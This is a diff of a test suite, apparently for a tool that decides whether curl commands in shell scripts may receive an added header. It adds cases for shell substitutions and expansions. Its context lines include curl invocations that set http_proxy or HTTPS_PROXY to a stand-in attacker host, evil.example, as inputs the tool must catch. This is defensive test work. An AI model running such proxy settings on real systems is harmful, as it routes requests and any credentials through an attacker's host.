@@ -1127,12 +1127,29 @@ describe('who may get the header', () => {
         /^unknown 0: the shell may make several words of \$\w|^elsewhere 0$/,
       ]),
       [
+        'a variable that may name a list',
+        posixFormat,
+        `x='a[@]'\ncurl -o "\${!x}" ${url}\n`,
+        /^changed 1$/,
+        /^unknown 1: the shell may make several words of \$!x$/,
+      ],
+      ...[
+        ['$(date +%s).json', '$(…)'],
+        ['`date`', '`…`'],
+      ].map(([word = '', named = '']): Row => [
+        'a substitution outside of quotes',
+        posixFormat,
+        `curl -o ${word} ${url}\n`,
+        /^changed 1$/,
+        new RegExp(`several words of ${named.replace(/[$().]/g, '\\$&')}$`),
+      ]),
+      ...['-o "$(f "$@")"', '-d @<(f "$@")'].map((option): Row => [
         'a list that stays one word',
         posixFormat,
-        `curl -o "$(f "$@")" ${url}\n`,
+        `curl ${option} ${url}\n`,
         /^changed 1$/,
         /^changed 1$/,
-      ],
+      ]),
       ...[
         'http_proxy=http://evil.example curl',
         'env HTTPS_PROXY=http://evil.example curl',
